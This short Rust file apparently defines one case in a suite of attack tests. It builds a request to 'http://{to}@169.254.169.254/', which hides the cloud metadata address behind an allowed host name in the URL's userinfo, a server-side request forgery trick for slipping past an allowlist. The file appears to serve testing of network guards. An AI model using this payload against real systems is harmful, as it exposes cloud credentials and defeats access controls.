//! Asks another server behind the name of a granted one.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(to: String) -> Result<String> {
        ask("GET", &format!("http://{to}@169.254.169.254/")).await
    }
}
